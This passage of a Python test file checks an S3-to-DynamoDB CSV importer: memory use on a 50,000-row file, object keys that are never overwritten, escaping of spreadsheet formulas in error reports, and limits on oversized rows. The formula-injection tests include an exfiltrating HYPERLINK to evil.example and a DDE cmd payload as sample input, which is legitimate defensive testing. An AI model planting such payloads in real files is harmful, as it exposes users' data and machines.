        proc.terminate()
        proc.wait(timeout=10)


async def test_50000_rows_memory_stays_flat(
    moto_process: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """50,000 rows (~15 MB) stream through a bounded pipeline: the peak of memory
    allocated while importing is a small fraction of the file."""
    from asyncbatch.aws.local import LOCAL_ENV

    for key, value in LOCAL_ENV.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_process)
    rows = 50_000
    pad = "-".join(["Introduction to the Theory of Computation"] * 6)  # rows of ~300 bytes
    data = (HEADER + "".join(
        f"A{i:05d},First{i},Last{i},Course {i % 13} {pad}\n" for i in range(rows))
    ).encode()
    size = len(data)
    async for made in make_aws(moto_process):
        await made.put("big.csv", data)
        del data
        await made.put("warm.csv", students(30))
        imp = S3CsvImporter(Student, TABLE, concurrency=8)
        async with imp.open_clients() as clients:
            # Warm up: botocore loads its models and endpoint rules on first use.
            await imp.run(s3_event(BUCKET, "warm.csv"), clients=clients)
            tracemalloc.start()
            try:
                before, _ = tracemalloc.get_traced_memory()
                result = await imp.run(s3_event(BUCKET, "big.csv"), clients=clients)
                _, peak = tracemalloc.get_traced_memory()
            finally:
                tracemalloc.stop()
        (obj,) = result.objects
        assert (obj.status, obj.rows_read, obj.rows_written) == ("archived", rows, rows)
        table = await made.dynamodb.describe_table(TableName=TABLE)
        assert table["Table"]["ItemCount"] == rows + 30
        last = await made.dynamodb.get_item(
            TableName=TABLE, Key={"student_id": {"S": f"A{rows - 1:05d}"},
                                  "course": {"S": f"Course {(rows - 1) % 13} {pad}"}})
        assert last["Item"]["fname"] == {"S": f"First{rows - 1}"}
    extra = peak - before
    print(f"\n{rows} rows, file {size / 1e6:.1f} MB, peak traced {extra / 1e6:.2f} MB")
    assert size > 14_000_000
    assert extra < size / 4, (extra, size)


# -- never overwrite an object --------------------------------------------------


async def test_report_keys_are_unique_per_source_object(env: Aws) -> None:
    """incoming/a.csv's report is not the key a rejected incoming/a.errors.csv moves
    to, and b.CSV and b.csv have a report each: nothing is overwritten."""
    sources = ["incoming/a.csv", "incoming/a.errors.csv", "incoming/b.CSV", "incoming/b.csv"]
    for index, key in enumerate(sources):
        await env.put(key, HEADER + f"bad{index},x,y,z\n")
    imp = importer(env)
    result = await imp.run(s3_event(BUCKET, *sources))
    assert [o.status for o in result.objects] == ["rejected"] * 4
    reports = [o.errors_key for o in result.objects]
    moved = [o.destination_key for o in result.objects]
    assert reports == [imp.report_key(key) for key in sources]
    assert len(set(reports) | set(moved)) == 8
    assert sorted(await env.keys()) == sorted([*reports, *moved])  # type: ignore[type-var]
    for index, report in enumerate(reports):
        assert report is not None
        data = await env.get(report)
        assert data is not None
        assert list(csv.reader(io.StringIO(data.decode())))[1][2] == f"bad{index}"


async def test_moves_and_reports_never_replace_an_existing_object(env: Aws) -> None:
    """Monday's archive/incoming/s.csv and an old report stay as they were: Tuesday's
    file of the same name goes to a key with a unique suffix (conditional put for the
    report, If-None-Match: * that moto refuses with 412; a checked copy for the move)."""
    await env.put("archive/incoming/s.csv", "monday")
    await env.put("reports/incoming/r.csv.errors.csv", "old report")
    await env.put("incoming/s.csv", students(3))
    await env.put("incoming/r.csv", students(2) + "bad,,,\n")
    imp = importer(env)
    archived, rejected = (await imp.run(s3_event(BUCKET, "incoming/s.csv", "incoming/r.csv"))
                          ).objects
    assert archived.status == "archived" and rejected.status == "rejected"
    assert await env.get("archive/incoming/s.csv") == b"monday"
    assert await env.get("reports/incoming/r.csv.errors.csv") == b"old report"
    assert archived.destination_key is not None and rejected.errors_key is not None
    assert archived.destination_key.startswith("archive/incoming/s.")
    assert archived.destination_key.endswith(".csv")
    assert archived.destination_key != "archive/incoming/s.csv"
    assert await env.get(archived.destination_key) == students(3).encode()
    assert rejected.errors_key.startswith("reports/incoming/r.csv.errors.")
    report = await env.get(rejected.errors_key)
    assert report is not None and b"bad" in report
    with pytest.raises(Exception, match="PreconditionFailed"):  # what the put relies on
        await env.s3.put_object(Bucket=BUCKET, Key="archive/incoming/s.csv", Body=b"x",
                                IfNoneMatch="*")


def test_prefixes_that_contain_one_another_are_refused() -> None:
    from asyncbatch import ConfigurationError

    with pytest.raises(ConfigurationError, match="must not contain one another"):
        S3CsvImporter(Student, TABLE, error_prefix="error/", report_prefix="error/reports/")


# -- spreadsheet formula injection (item 10) ---------------------------------------


async def test_errors_csv_neutralises_formulas(env: Aws) -> None:
    text = (HEADER
            + 'A10001,=HYPERLINK("http://evil.example/?"&A1;"click"),-Reacher,\n'
            + "@SUM(1),+1,\tTab,\n")
    await env.put("f.csv", text)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "f.csv"))).objects
    assert obj.status == "rejected" and obj.errors_key is not None
    data = await env.get(obj.errors_key)
    assert data is not None
    table = list(csv.reader(io.StringIO(data.decode())))
    first, second = table[1][2:], table[2][2:]
    assert first[:3] == ["A10001", "'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")",
                         "'-Reacher"]
    assert second[:3] == ["'@SUM(1)", "'+1", "'\tTab"]
    cells = [cell for row in table for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


async def test_errors_csv_neutralises_every_line_of_a_cell(env: Aws) -> None:
    """A formula after a line break inside a cell: a bare CR was written unquoted (a
    spreadsheet started a new row there, with a live formula), and no line after the
    first of a cell was neutralised. Read back from S3, the report parses with csv to
    the neutralised cells, and however a reader splits it into lines (CR, LF, CRLF), no
    line starts a formula."""
    text = (HEADER
            + 'X1,"Jack\r=cmd|\' /C calc\'!A0","Smith\n@SUM(1)","Physics\r\n+1\r-2"\n'
            + 'X2,"-Ann","O\'Hara","Art\n\n=HYPERLINK(""http://evil.example"")"\n')
    await env.put("breaks.csv", text)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "breaks.csv"))).objects
    assert obj.status == "rejected" and obj.errors_key is not None
    data = await env.get(obj.errors_key)
    assert data is not None
    report = data.decode()
    table = list(csv.reader(io.StringIO(report, newline="")))
    assert [row[2:] for row in table[1:]] == [
        ["X1", "Jack\r'=cmd|' /C calc'!A0", "Smith\n'@SUM(1)", "Physics\r\n'+1\r'-2"],
        ["X2", "'-Ann", "O'Hara", "Art\n\n'=HYPERLINK(\"http://evil.example\")"],
    ]
    for lines in (re.split(r"\r\n|\r|\n", report), report.split("\r"),
                  report.split("\n"), report.split("\r\n")):
        assert len(lines) > 3
        starts = [line.lstrip('"') for line in lines]
        assert not [line for line in starts if line.startswith(("=", "+", "-", "@", "\t"))]


# -- large input (item 11) -----------------------------------------------------------


async def test_a_huge_quoted_cell_costs_its_row_only(env: Aws) -> None:
    """A quoted cell over csv's 128 KiB limit, with line breaks in it: that row is
    rejected with the reason, the rows after it are imported (before: the rest of the
    file became one broken row)."""
    big = ("word, " * 40 + "\n") * 700  # ~170 KB
    text = (HEADER + "A10001,Jack,Reacher,Physics\n"
            + f'A10002,Sherlock,Holmes,"{big}"\n'
            + "A10003,Jane,Marple,Knitting\n" + 'A10004,"Nero","Wolfe","Orchids, rare"\n')
    await env.put("big.csv", text)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "big.csv"))).objects
    assert (obj.status, obj.rows_read, obj.rows_written, obj.rows_rejected) == \
        ("rejected", 4, 3, 1)
    (error,) = obj.errors
    assert error.line == 3 and "field larger than field limit" in error.message
    assert set(await env.items()) == {("A10001", "Physics"), ("A10003", "Knitting"),
                                      ("A10004", "Orchids, rare")}


async def test_a_row_over_max_row_size_is_skipped_and_the_rest_imported(env: Aws) -> None:
    text = HEADER + f'A10001,"{"x" * 5000}",b,c\n' + students(3, start=5)[len(HEADER):]
    await env.put("wide.csv", text)
    (obj,) = (await importer(env, max_row_size=4096).run(s3_event(BUCKET, "wide.csv"))
              ).objects
    assert (obj.rows_read, obj.rows_written, obj.rows_rejected) == (4, 3, 1)
    assert "longer than 4,096 characters" in obj.errors[0].message


async def test_a_file_with_no_line_break_is_a_clear_header_error(env: Aws) -> None:
    await env.put("one-line.csv", "a," * 600_000)
    (obj,) = (await importer(env).run(s3_event(BUCKET, "one-line.csv"))).objects
    assert obj.status == "failed" and isinstance(obj.exception, CsvHeaderError)
    assert "longer than" in str(obj.exception)


async def test_summary_of_a_very_wide_header_reaches_sns(env: Aws) -> None:
    """A fatal error on a 40,000-column header: the SNS message stays under the limit
    and is delivered (before: a 510 KB message that SNS refused)."""
    header = ",".join(f"column_{i:06d}" for i in range(40_000)) + "\n"
    await env.put("wide-header.csv", header + "1\n")
    (obj,) = (await importer(env).run(s3_event(BUCKET, "wide-header.csv"))).objects
    assert obj.status == "failed" and isinstance(obj.exception, CsvHeaderError)
    assert obj.message_id is not None
    (message,) = await env.messages()
    assert message["body"]["status"] == "failed" and "student_id" in message["body"]["error"]
